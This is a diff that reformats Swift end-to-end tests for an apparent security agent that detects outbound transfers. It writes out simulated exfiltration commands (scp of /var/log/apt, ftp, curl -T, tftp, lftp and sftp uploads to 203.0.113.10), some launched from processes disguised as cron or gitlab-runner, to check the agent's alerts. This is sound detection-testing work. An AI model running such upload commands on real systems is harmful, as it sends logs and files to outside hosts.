@@ -8,10 +8,12 @@ extension KernelAuditTests.FlowEndToEnd {
     @Test func cronJobCopyingLogsAndAScriptedFtpPut() throws {
         let big = try randomFile("big.bin", bytes: 12_000_000)
         let put = try commandsFile("put.ftp", ["user anonymous x", "binary", "put \(big) upload/big.bin", "quit"])
-        let job = try commandsFile("job.sh", [
-            "scp -r \(sshOptions.joined(separator: " ")) /var/log/apt root@203.0.113.10:\(lab)/sshroot/",
-            "ftp -n -p 203.0.113.10 < \(put) > /dev/null",
-        ])
+        let job = try commandsFile(
+            "job.sh",
+            [
+                "scp -r \(sshOptions.joined(separator: " ")) /var/log/apt root@203.0.113.10:\(lab)/sshroot/",
+                "ftp -n -p 203.0.113.10 < \(put) > /dev/null",
+            ])
         // A shell named cron runs the job, as cron would: no terminal, stdin /dev/null.
         let cron = work + "/cron"
         try FileManager.default.copyItem(atPath: "/bin/dash", toPath: cron)
@@ -64,7 +66,9 @@ extension KernelAuditTests.FlowEndToEnd {
         let hashed = try randomFile(hash, bytes: 100_000)
         let batch = try commandsFile("batch.sftp", ["put \(zip) \(lab)/sshroot/report.zip"])
         let agent = try startAgent()
-        let python = try client("/usr/bin/python3", ["-c", "import subprocess, sys; subprocess.run(['curl', '-s', '-T', sys.argv[1], 'ftp://203.0.113.10/upload/report.zip'], check=True)", zip])
+        let python = try client(
+            "/usr/bin/python3",
+            ["-c", "import subprocess, sys; subprocess.run(['curl', '-s', '-T', sys.argv[1], 'ftp://203.0.113.10/upload/report.zip'], check=True)", zip])
         let busybox = try client("/usr/bin/busybox", ["tftp", "-p", "-l", hashed, "-r", hash, "203.0.113.10"])
         let lftp = try client("/usr/bin/lftp", ["-u", "anonymous,x", "-p", "443", "-e", "put \(zip) -o upload/x443.zip; quit", "203.0.113.10"])
         let sftp = try client("/usr/bin/sftp", sshOptions + ["-b", batch, "root@203.0.113.10"])
@@ -98,7 +102,8 @@ extension KernelAuditTests.FlowEndToEnd {
         let file = try randomFile("backup.tar.gz", bytes: 200_000)
         let runner = work + "/gitlab-runner"
         try FileManager.default.copyItem(atPath: "/bin/dash", toPath: runner)
-        let agent = try startAgent("""
+        let agent = try startAgent(
+            """
             [[exclusions]]
             name = "lftp backups"
             process_name = ["lftp"]
@@ -135,8 +140,9 @@ extension KernelAuditTests.FlowEndToEnd {
         _ = try stop(agent, expecting: 1)
         var alerts = try readAlerts()
         #expect(alerts.filter { $0.rule == "network.first_seen_process" }.map(\.pid) == [Int(first)])
-        #expect(alerts.first { $0.rule == "network.first_seen_process" }?.reasons
-            == ["first outbound connection of /usr/bin/curl", "destination 203.0.113.10 is untrusted"])
+        #expect(
+            alerts.first { $0.rule == "network.first_seen_process" }?.reasons
+                == ["first outbound connection of /usr/bin/curl", "destination 203.0.113.10 is untrusted"])
         let state = try String(contentsOfFile: work + "/state/first-seen-executables", encoding: .utf8)
         #expect(state.contains("\n/usr/bin/curl\n") && state.contains("\n/usr/bin/busybox\n"))
 
